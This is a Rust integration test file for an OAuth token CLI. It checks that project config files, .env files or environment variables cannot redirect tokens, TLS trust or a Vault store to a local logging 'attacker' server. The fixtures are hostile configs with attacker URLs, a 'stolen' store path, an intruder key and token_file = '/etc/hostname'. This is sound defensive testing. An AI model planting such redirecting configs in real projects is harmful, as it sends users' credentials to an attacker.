//! Hostile working directories: for every provider and every setting that names a destination or a
//! TLS trust, a project `age-oauth.toml` or `.env` that changes it gets exit 2 and a logging
//! "attacker" on 127.0.0.1 receives nothing at all; the home directory keeps working; `login --force`
//! in such a directory (the user's consent) re-binds. The legitimate servers are our simulators and
//! the real NTLM peer (tests/peers/ntlm).

use crate::common::*;
use age_oauth::sandbox::{OidcSim, OidcSimConfig, ServerConfig, ServerSim};
use std::path::{Path, PathBuf};
use std::process::Output;

/// A logged-in profile in a fresh home, with what keeps its servers alive.
struct Bound {
    home: Home,
    profile: &'static str,
    /// Extra environment every command of this profile needs (browser, password source...).
    env: Vec<(String, String)>,
    /// The command that shows the home directory works (exit 0).
    works: Vec<String>,
    _servers: Vec<Box<dyn std::any::Any>>,
}

impl Bound {
    fn run_in(&self, dir: &Path, args: &[&str]) -> Output {
        self.run_with(dir, None, args)
    }

    /// `run_in` with one more variable in the process environment.
    fn run_with(&self, dir: &Path, var: Option<(&str, &str)>, args: &[&str]) -> Output {
        let mut cmd = self.home.cmd();
        cmd.current_dir(dir);
        for (k, v) in &self.env {
            cmd.env(k, v);
        }
        if let Some((k, v)) = var {
            cmd.env(k, v);
        }
        cmd.args(args).output().unwrap()
    }

    fn work_dir(&self) -> PathBuf {
        self.home.path().join("work")
    }

    fn assert_home_works(&self, case: &str) {
        let args: Vec<&str> = self.works.iter().map(String::as_str).collect();
        let out = self.run_in(&self.work_dir(), &args);
        assert_eq!(code(&out), 0, "{case}: the home directory keeps working: {}", text(&out.stderr));
    }
}

/// Which layer changes the setting: the working directory's files, or an `AGE_OAUTH_*` variable
/// in the process environment (the cache is bound: that too needs `login --force`).
#[derive(Clone, Copy, Debug)]
enum Layer {
    ProjectFile,
    DotEnv,
    Env,
}

/// A directory whose project file or `.env` sets `setting` to `value` for `profile`.
fn hostile_dir(home: &Home, n: usize, layer: Layer, profile: &str, setting: &str, value: &str) -> PathBuf {
    let dir = home.path().join(format!("repo-{n}"));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("attacker-ca.pem"), ATTACKER_CA).unwrap();
    match layer {
        Layer::ProjectFile => std::fs::write(
            dir.join("age-oauth.toml"),
            format!("# checked in by someone else\n[profiles.{profile}]\n{setting} = \"{value}\"\n"),
        ),
        Layer::DotEnv => std::fs::write(
            dir.join(".env"),
            format!("OTHER_TOOL=1\nAGE_OAUTH_{}={value}\n", setting.to_ascii_uppercase()),
        ),
        Layer::Env => Ok(()),
    }
    .unwrap();
    dir
}

/// Runs every command in every hostile variant of every setting: exit 2, the message names the
/// setting, its layer and `login --force`, the attacker receives nothing; the home keeps working.
fn assert_refused_everywhere(bound: &Bound, attacker: &Attacker, settings: &[&str], commands: &[Vec<String>]) {
    let mut n = 0;
    for setting in settings {
        for layer in [Layer::ProjectFile, Layer::DotEnv, Layer::Env] {
            n += 1;
            let dir_of = |n: usize| bound.home.path().join(format!("repo-{n}"));
            let value = match *setting {
                "verify_ssl" => match layer {
                    Layer::ProjectFile => "attacker-ca.pem".to_string(),
                    Layer::DotEnv => "./attacker-ca.pem".to_string(),
                    Layer::Env => dir_of(n).join("attacker-ca.pem").display().to_string(),
                },
                _ => attacker.url(&format!("/{setting}")),
            };
            let dir = hostile_dir(&bound.home, n, layer, bound.profile, setting, &value);
            let var_name = format!("AGE_OAUTH_{}", setting.to_ascii_uppercase());
            let var = matches!(layer, Layer::Env).then_some((var_name.as_str(), value.as_str()));
            for command in commands {
                let mut args: Vec<&str> = command.iter().map(String::as_str).collect();
                // Before `--` (exec's child command), else at the end.
                let at = args.iter().position(|a| *a == "--").unwrap_or(args.len());
                args.splice(at..at, ["--profile", bound.profile]);
                let case = format!("{} {setting} via {layer:?}: {}", bound.profile, command.join(" "));
                let out = bound.run_with(&dir, var, &args);
                let err = text(&out.stderr);
                assert_eq!(code(&out), 2, "{case}: {err}");
                assert!(err.contains(&format!("`{setting}`")), "{case}: names the setting: {err}");
                let where_ = match layer {
                    Layer::ProjectFile => "age-oauth.toml:3".to_string(),
                    Layer::DotEnv => {
                        format!("AGE_OAUTH_{} in the working directory's .env", setting.to_ascii_uppercase())
                    }
                    Layer::Env => format!("the environment variable AGE_OAUTH_{}", setting.to_ascii_uppercase()),
                };
                assert!(err.contains(&where_), "{case}: names the layer ({where_}): {err}");
                assert!(err.contains(&format!("age-oauth login --profile {} --force", bound.profile)), "{case}: {err}");
                assert!(out.stdout.is_empty(), "{case}: no token printed");
                assert!(!dir.join(EXPORT_FILE).exists(), "{case}: nothing exported");
                assert_eq!(attacker.received(), Vec::<String>::new(), "{case}: the attacker received something");
            }
            bound.assert_home_works(&format!("after {setting} via {layer:?}"));
        }
    }
}

fn strings(commands: &[&[&str]]) -> Vec<Vec<String>> {
    commands.iter().map(|c| c.iter().map(ToString::to_string).collect()).collect()
}

/// Where `cache export` in a hostile directory would write (relative to that directory).
const EXPORT_FILE: &str = "hostile-export.age";

/// `cache export` to some age key: the export's settings would aim an importing server.
fn export_command() -> Vec<String> {
    let key = age::x25519::Identity::generate().to_public().to_string();
    strings(&[&["cache", "export", "--recipient", &key, "-o", EXPORT_FILE]]).remove(0)
}

/// The commands that send credentials: a forced refresh, whoami, logout, a request, `login`
/// without `--force` and `exec` (which hands the token to a child); and `cache export`, which
/// would hand them to a server along with the working directory's settings.
fn token_commands(attacker: &Attacker) -> Vec<Vec<String>> {
    let url = attacker.url("/sharing/rest/portals/self");
    let mut commands = strings(&[
        &["token", "--min-ttl", "9999999"],
        &["whoami"],
        &["request", &url],
        &["logout"],
        &["login"],
        &["exec", "--", "sh", "-c", "echo \"$AGE_OAUTH_TOKEN\""],
    ]);
    commands.push(export_command());
    commands
}

fn esri_oob() -> Bound {
    let sim = start_sim();
    let home = Home::new();
    add_profile(&home, &sim, "oob");
    let out = login(&home, "oob", &[]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let works = strings(&[&["token", "--profile", "oob"]]).remove(0);
    Bound { home, profile: "oob", env: vec![], works, _servers: vec![Box::new(sim)] }
}

fn esri_app(sim: &age_oauth::sandbox::PortalSim) -> Bound {
    let home = Home::new();
    add_app_profile(&home, "app", &sim.base_url(), APP, APP_SECRET);
    let out = home.run(&["token", "--profile", "app"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let works = strings(&[&["token", "--profile", "app"]]).remove(0);
    Bound { home, profile: "app", env: vec![], works, _servers: vec![] }
}

#[test]
fn esri_oob_portal_and_trust() {
    let attacker = Attacker::start();
    let bound = esri_oob();
    assert_refused_everywhere(&bound, &attacker, &["portal", "verify_ssl"], &token_commands(&attacker));
}

#[test]
fn esri_app_portal_and_trust_and_login_force_rebinds() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let bound = esri_app(&sim);
    assert_refused_everywhere(&bound, &attacker, &["portal", "verify_ssl"], &token_commands(&attacker));

    // The user's consent: `login --force` in a directory naming another (real) portal re-binds there.
    let other = start_sim();
    let dir = hostile_dir(&bound.home, 99, Layer::DotEnv, "app", "portal", &other.base_url());
    assert_eq!(code(&bound.run_in(&dir, &["token", "--profile", "app"])), 2);
    assert_eq!(other.count("token:client_credentials"), 0, "nothing sent before consent");
    let out = bound.run_in(&dir, &["login", "--profile", "app", "--force"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(other.count("token:client_credentials") >= 1);
    assert_eq!(code(&bound.run_in(&dir, &["token", "--profile", "app"])), 0, "bound there now");
    // ...and the home directory, which names the first portal, is now the one refused, until consent.
    let out = bound.run_in(&bound.work_dir(), &["token", "--profile", "app"]);
    assert_eq!(code(&out), 2, "{}", text(&out.stderr));
    assert_eq!(code(&bound.run_in(&bound.work_dir(), &["login", "--profile", "app", "--force"])), 0);
    bound.assert_home_works("after re-binding home");
    assert!(attacker.received().is_empty());
}

#[test]
fn esri_pkce_portal_and_trust() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let home = Home::new();
    let browser = browser_script(home.path());
    let out = home.run(&[
        "profile",
        "add",
        "desk",
        "--provider",
        "esri-pkce",
        "--portal",
        &sim.base_url(),
        "--client-id",
        "age-oauth-sandbox",
    ]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let out = home.cmd().env("AGE_OAUTH_BROWSER", &browser).args(["login", "--profile", "desk"]).output().unwrap();
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let works = strings(&[&["token", "--profile", "desk"]]).remove(0);
    let env = vec![("AGE_OAUTH_BROWSER".to_string(), browser.display().to_string())];
    let bound = Bound { home, profile: "desk", env, works, _servers: vec![Box::new(sim)] };
    assert_refused_everywhere(&bound, &attacker, &["portal", "verify_ssl"], &token_commands(&attacker));
}

fn oidc_bound(sim: &OidcSim) -> Bound {
    sim.faults(|f| (f.device_interval, f.device_pending_polls) = (Some(1), 0));
    let home = Home::new();
    let out = home.run(&[
        "profile",
        "add",
        "sso",
        "--provider",
        "oidc",
        "--set",
        &format!("issuer={}", sim.issuer()),
        "--client-id",
        &sim.client_id(),
        "--set",
        "flow=device",
        "--set",
        "scopes=openid offline_access",
    ]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let out = home.run(&["login", "--profile", "sso"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let works = strings(&[&["token", "--profile", "sso"]]).remove(0);
    Bound { home, profile: "sso", env: vec![], works, _servers: vec![] }
}

#[test]
fn oidc_issuer_every_explicit_endpoint_and_trust() {
    let attacker = Attacker::start();
    let sim = OidcSim::start(OidcSimConfig::default()).unwrap();
    let bound = oidc_bound(&sim);
    let settings = [
        "issuer",
        "authorization_endpoint",
        "token_endpoint",
        "device_authorization_endpoint",
        "revocation_endpoint",
        "userinfo_endpoint",
        "jwks_uri",
        "verify_ssl",
    ];
    assert_refused_everywhere(&bound, &attacker, &settings, &token_commands(&attacker));

    // `request` never sends an OIDC bearer token to another host, unless told to.
    let out = bound.run_in(&bound.work_dir(), &["request", "--profile", "sso", &attacker.url("/api")]);
    assert_eq!(code(&out), 2, "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("--allow-other-host"), "{}", text(&out.stderr));
    assert!(attacker.received().is_empty());
    let out =
        bound.run_in(&bound.work_dir(), &["request", "--profile", "sso", "--allow-other-host", &attacker.url("/api")]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(attacker.received().len(), 1, "the explicit opt-in is what let it through");

    // Consent re-binds to another issuer.
    let other = OidcSim::start(OidcSimConfig::default()).unwrap();
    other.faults(|f| (f.device_interval, f.device_pending_polls) = (Some(1), 0));
    let dir = hostile_dir(&bound.home, 99, Layer::DotEnv, "sso", "issuer", other.issuer());
    assert_eq!(code(&bound.run_in(&dir, &["token", "--profile", "sso", "--min-ttl", "9999999"])), 2);
    assert_eq!(other.count("token:refresh_token"), 0);
    let out = bound.run_in(&dir, &["login", "--profile", "sso", "--force"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(code(&bound.run_in(&dir, &["whoami", "--profile", "sso"])), 0);
}

fn esri_token_bound(site: (&str, String)) -> Bound {
    let home = Home::new();
    let out = home.run(&[
        "profile",
        "add",
        "gen",
        "--provider",
        "esri-token",
        "--set",
        &format!("{}={}", site.0, site.1),
        "--set",
        "username=alice",
        "--set",
        "password=alice-password",
    ]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(code(&home.run(&["token", "--profile", "gen"])), 0);
    let works = strings(&[&["token", "--profile", "gen"]]).remove(0);
    Bound { home, profile: "gen", env: vec![], works, _servers: vec![] }
}

#[test]
fn esri_token_portal_and_server_and_trust() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let bound = esri_token_bound(("portal", sim.base_url()));
    assert_refused_everywhere(&bound, &attacker, &["portal", "verify_ssl"], &token_commands(&attacker));
    let server = ServerSim::start("127.0.0.1:0", ServerConfig::default()).unwrap();
    let bound = esri_token_bound(("server", server.base_url()));
    assert_refused_everywhere(&bound, &attacker, &["server", "verify_ssl"], &token_commands(&attacker));
}

#[test]
fn web_tier_url_generate_token_url_and_trust_with_ntlm_and_kerberos() {
    let attacker = Attacker::start();
    let url = ntlm_peer().var("NTLM_URL").to_string();
    for mechanism in ["ntlm", "kerberos"] {
        let home = Home::new();
        let out = home.run(&[
            "profile",
            "add",
            "site",
            "--provider",
            "web-tier",
            "--url",
            &url,
            "--set",
            &format!("mechanism={mechanism}"),
            "--set",
            "username=alice",
            "--set",
            "password=alice-password",
        ]);
        assert_eq!(code(&out), 0, "{}", text(&out.stderr));
        let works = if mechanism == "ntlm" {
            strings(&[&["request", "--profile", "site", &url]]).remove(0)
        } else {
            // No KDC here: the bound cache is what matters; `profile show` proves the home resolves.
            strings(&[&["profile", "show", "site"]]).remove(0)
        };
        let bound = Bound { home, profile: "site", env: vec![], works, _servers: vec![] };
        bound.assert_home_works(mechanism);
        let commands = strings(&[&["request", &attacker.url("/protected")], &["token"], &["whoami"]]);
        assert_refused_everywhere(&bound, &attacker, &["url", "generate_token_url", "verify_ssl"], &commands);
    }
}

#[test]
fn profile_add_in_a_hostile_directory_binds_only_what_it_writes() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let bound = esri_app(&sim);
    let dir = hostile_dir(&bound.home, 1, Layer::DotEnv, "app", "portal", &attacker.url("/portal"));
    let out = bound.run_in(&dir, &["profile", "add", "app", "--set", "expiration=120"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let out = bound.run_in(&dir, &["token", "--profile", "app"]);
    assert_eq!(code(&out), 2, "{}", text(&out.stderr));
    assert!(attacker.received().is_empty(), "{:?}", attacker.received());
    bound.assert_home_works("after profile add in a hostile directory");
}

#[test]
fn a_cache_without_a_binding_is_bound_to_the_user_file_not_the_working_directory() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let bound = esri_app(&sim);
    // What older versions, imports and migrations wrote: no binding at all.
    let store = age_oauth::CacheStore::with_own_identity(age_oauth::Paths::under(bound.home.state()));
    let mut entry = store.load("app").unwrap().unwrap();
    entry.binding = None;
    entry.service = None;
    let lock = store.lock("app").unwrap();
    store.save(&lock, &entry).unwrap();
    drop(lock);
    let dir = hostile_dir(&bound.home, 1, Layer::DotEnv, "app", "portal", &attacker.url("/portal"));
    let out = bound.run_in(&dir, &["token", "--profile", "app", "--min-ttl", "9999999"]);
    assert_eq!(code(&out), 2, "{}", text(&out.stderr));
    assert!(attacker.received().is_empty());
    bound.assert_home_works("unbound cache, home");
    let out = bound.run_in(&bound.work_dir(), &["token", "--profile", "app", "--min-ttl", "9999999"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let entry = store.load("app").unwrap().unwrap();
    assert!(entry.binding.is_some(), "the next write records the binding");
}

#[test]
fn an_imported_cache_is_bound_to_the_imported_settings() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let desk = esri_app(&sim);
    let server = Home::new();
    let key = text(&server.run(&["key", "show"]).stdout).trim().to_string();
    let export = desk.home.path().join("app.age");
    let out =
        desk.home.run(&["cache", "export", "--profile", "app", "--recipient", &key, "-o", export.to_str().unwrap()]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    // Whatever the export carries, the import binds the cache to the settings it writes.
    let out = server.run(&["cache", "import", export.to_str().unwrap()]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let binding = server.load_cache("app").binding.expect("import writes the binding");
    assert_eq!(binding.origins[0].origin, age_oauth::Origin::of_url(&sim.base_url()).unwrap());
    let bound = Bound {
        home: server,
        profile: "app",
        env: vec![],
        works: strings(&[&["token", "--profile", "app"]]).remove(0),
        _servers: vec![],
    };
    bound.assert_home_works("imported");
    assert_refused_everywhere(&bound, &attacker, &["portal"], &strings(&[&["token", "--min-ttl", "9999999"]]));
}

#[test]
fn cache_export_in_a_hostile_directory_is_refused_and_an_export_from_home_works_on_the_server() {
    let attacker = Attacker::start();
    let sim = start_sim();
    let desk = esri_app(&sim);
    let server = Home::new();
    let key = text(&server.run(&["key", "show"]).stdout).trim().to_string();
    for layer in [Layer::ProjectFile, Layer::DotEnv] {
        let dir = hostile_dir(&desk.home, layer as usize, layer, "app", "portal", &attacker.url("/portal"));
        let out = desk.run_in(&dir, &["cache", "export", "--profile", "app", "--recipient", &key, "-o", "x.age"]);
        assert_eq!(code(&out), 2, "{layer:?}: {}", text(&out.stderr));
        assert!(text(&out.stderr).contains("`portal`"), "{}", text(&out.stderr));
        assert!(!dir.join("x.age").exists(), "{layer:?}: nothing written");
    }
    let export = desk.home.path().join("app.age");
    let out = desk.run_in(
        &desk.work_dir(),
        &["cache", "export", "--profile", "app", "--recipient", &key, "-o", export.to_str().unwrap()],
    );
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let out = server.run(&["cache", "import", export.to_str().unwrap()]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let before = sim.count("token:client_credentials");
    let out = server.run(&["token", "--profile", "app", "--min-ttl", "9999999"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(sim.count("token:client_credentials") > before, "the imported secret went to the real portal");
    assert!(attacker.received().is_empty(), "{:?}", attacker.received());
}

#[test]
fn okta_esri_portal_okta_and_trust() {
    let attacker = Attacker::start();
    let org = crate::okta::start_org(|_| {});
    let home = Home::new();
    crate::okta::add_okta_profile(&home, &org, "okta", "nomfa@example.test", &[]);
    let env = vec![("AGE_OAUTH_PASSWORD".to_string(), "okta-password".to_string())];
    let out = home.cmd().env(&env[0].0, &env[0].1).args(["login", "--profile", "okta"]).output().unwrap();
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let works = strings(&[&["token", "--profile", "okta"]]).remove(0);
    let bound = Bound { home, profile: "okta", env, works, _servers: vec![Box::new(org)] };
    assert_refused_everywhere(&bound, &attacker, &["portal", "okta", "verify_ssl"], &token_commands(&attacker));
}

// --- issue 11: the api-key provider
/// An `api-key` profile minted after a device login at the Anaconda-style simulator: every setting that
/// names a destination (the API, the issuer, the discovery document, each mint URL, whoami) and the trust.
#[test]
fn api_key_api_url_issuer_discovery_mint_whoami_and_trust() {
    use age_oauth::sandbox::{AnacondaSim, AnacondaSimConfig};
    let attacker = Attacker::start();
    let sim = AnacondaSim::start(AnacondaSimConfig::default()).unwrap();
    sim.oidc_faults(|f| (f.device_interval, f.device_pending_polls) = (Some(1), 0));
    let home = Home::new();
    let mint = sim.mint_urls().join(" ");
    let out = home.run(&[
        "profile",
        "add",
        "conda",
        "--provider",
        "api-key",
        "--set",
        &format!("api_url={}", sim.site()),
        "--set",
        &format!("issuer={}", sim.issuer()),
        "--set",
        &format!("discovery_url={}", sim.discovery_url()),
        "--client-id",
        &sim.client_id(),
        "--set",
        &format!("mint_url={mint}"),
        "--set",
        &format!("whoami_url={}", sim.account_url()),
    ]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let out = home.run(&["login", "--profile", "conda"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let works = strings(&[&["token", "--profile", "conda"]]).remove(0);
    let bound = Bound { home, profile: "conda", env: vec![], works, _servers: vec![Box::new(sim)] };
    let settings = ["api_url", "issuer", "discovery_url", "mint_url", "whoami_url", "verify_ssl"];
    assert_refused_everywhere(&bound, &attacker, &settings, &token_commands(&attacker));
}

// ------------------------------------------------------------------------------------------------
// Fleet stores (issue 13): the store's URL, mount, CA and recipients are part of the binding
// ------------------------------------------------------------------------------------------------

/// A working directory naming another store, mount, CA or recipients for a fleet profile (or adding
/// a store to a profile without one) gets exit 2 before any request: the Vault token and the login's
/// ciphertext would go there, or be readable by someone else.
#[test]
fn a_fleet_store_or_its_recipients_from_the_working_directory_is_refused() {
    use crate::fleet::{openbao, Fleet, PROFILE};
    let attacker = Attacker::start();
    let mut fleet = Fleet::new(openbao(), 1, 1);
    fleet.login(0);
    fleet.expire(); // stale: `token` would talk to the store
    let home = &fleet.hosts[0];
    let intruder = age::x25519::Identity::generate().to_public().to_string();
    let stolen = format!("vault+{}/age-oauth/stolen", attacker.url(""));
    let cases = [
        format!("url = \"{stolen}\""),
        "mount = \"other\"".to_string(),
        format!("recipients = [\"{intruder}\"]"),
        "ca_file = \"attacker-ca.pem\"".to_string(),
        // Whatever file a project names would be presented as this host's Vault token.
        "token_file = \"/etc/hostname\"".to_string(),
    ];
    for (n, line) in cases.iter().enumerate() {
        let dir = home.path().join(format!("fleet-repo-{n}"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("attacker-ca.pem"), ATTACKER_CA).unwrap();
        std::fs::write(dir.join("age-oauth.toml"), format!("[profiles.{PROFILE}.store]\n{line}\n")).unwrap();
        for args in [&["token"][..], &["store", "status"], &["store", "push", "--force"], &["login", "--no-browser"]] {
            let out = fleet.cmd(0, args).current_dir(&dir).output().unwrap();
            let err = text(&out.stderr);
            let case = format!("{line}: {}", args.join(" "));
            assert_eq!(code(&out), 2, "{case}: {err}");
            assert!(err.contains("`store`"), "{case}: names the setting: {err}");
            assert!(err.contains(&format!("age-oauth login --profile {PROFILE} --force")), "{case}: {err}");
            assert!(out.stdout.is_empty(), "{case}");
        }
    }
    let dir = home.path().join("fleet-repo-env");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(".env"), format!("AGE_OAUTH_STORE={stolen}\n")).unwrap();
    assert_eq!(code(&fleet.cmd(0, &["token"]).current_dir(&dir).output().unwrap()), 2, ".env cannot name a store");
    assert!(attacker.received().is_empty(), "the attacker received: {:?}", attacker.received());
    let out = fleet.cmd(0, &["token"]).output().unwrap();
    assert_eq!(code(&out), 0, "the home directory keeps working: {}", text(&out.stderr));

    // A profile without a store: a project file adding one (to the attacker, with its key) is refused.
    let plain = esri_oob();
    let dir = plain.home.path().join("adds-a-store");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("age-oauth.toml"),
        format!("[profiles.oob.store]\nurl = \"{stolen}\"\nrecipients = [\"{intruder}\"]\n"),
    )
    .unwrap();
    for args in
        [&["token", "--profile", "oob", "--min-ttl", "9999999"][..], &["store", "push", "--profile", "oob", "--force"]]
    {
        let out = plain.run_with(&dir, Some(("VAULT_TOKEN", "s.x")), args);
        assert_eq!(code(&out), 2, "{}: {}", args.join(" "), text(&out.stderr));
    }
    assert!(attacker.received().is_empty(), "the attacker received: {:?}", attacker.received());
    plain.assert_home_works("after a project file added a store");
}

/// The Vault token is a credential outside the cache: a host that has no bound login yet (it never
/// adopted the fleet's login, or its profile lives only in a project file) must not send it to a store
/// that a working directory names. Exit 2 before any request; the host keeps working from its home.
#[test]
fn a_new_fleet_host_sends_its_vault_token_only_to_the_store_its_user_file_names() {
    use crate::fleet::{openbao, Fleet, PROFILE};
    let attacker = Attacker::start();
    let fleet = Fleet::new(openbao(), 2, 2);
    fleet.login(0);
    let fresh = &fleet.hosts[1]; // never ran `token`: no cache, no binding
    let stolen = format!("vault+{}/age-oauth/stolen", attacker.url(""));
    let dir = fresh.path().join("repo-redirects-the-store");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("age-oauth.toml"), format!("[profiles.{PROFILE}.store]\nurl = \"{stolen}\"\n")).unwrap();
    for args in [&["token"][..], &["store", "status"], &["store", "unclaim", "--force"]] {
        let out = fleet.cmd(1, args).current_dir(&dir).output().unwrap();
        let err = text(&out.stderr);
        assert_eq!(code(&out), 2, "{}: {err}", args.join(" "));
        assert!(err.contains("`store`") && err.contains("user file") && err.contains("nothing was sent"), "{err}");
    }
    assert!(attacker.received().is_empty(), "the attacker received: {:?}", attacker.received());
    let out = fleet.cmd(1, &["token"]).output().unwrap();
    assert_eq!(code(&out), 0, "from its home the new host adopts the fleet's login: {}", text(&out.stderr));

    // A whole fleet profile from a cloned repository, on a host whose environment holds a Vault token.
    let home = Home::new();
    let key = age::x25519::Identity::generate().to_public().to_string();
    let repo = home.path().join("cloned");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join("age-oauth.toml"),
        format!(
            "[profiles.prod]\nprovider = \"esri-oob\"\nportal = \"https://gis.example.com/portal\"\nclient_id = \"x\"\n\
             [profiles.prod.store]\nurl = \"{stolen}\"\nrecipients = [\"{key}\"]\n"
        ),
    )
    .unwrap();
    let out = home
        .cmd()
        .current_dir(&repo)
        .env("VAULT_TOKEN", "s.env-token")
        .args(["token", "--profile", "prod"])
        .output()
        .unwrap();
    assert_eq!(code(&out), 2, "{}", text(&out.stderr));
    assert!(!text(&out.stderr).contains("s.env-token"));
    assert!(attacker.received().is_empty(), "the attacker received: {:?}", attacker.received());
}
